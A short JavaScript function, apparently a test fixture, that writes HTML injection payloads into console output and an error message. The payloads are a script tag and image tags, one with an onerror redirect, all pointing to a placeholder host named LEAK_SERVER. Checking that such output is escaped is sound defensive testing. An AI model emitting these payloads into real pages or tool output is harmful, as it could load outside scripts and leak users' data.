function attend() {
  console.log('<img src="LEAK_SERVER/img"><script src="LEAK_SERVER/script"></script>')
  throw new Error('<img src="LEAK_SERVER/error" onerror="location=`LEAK_SERVER`">')
}
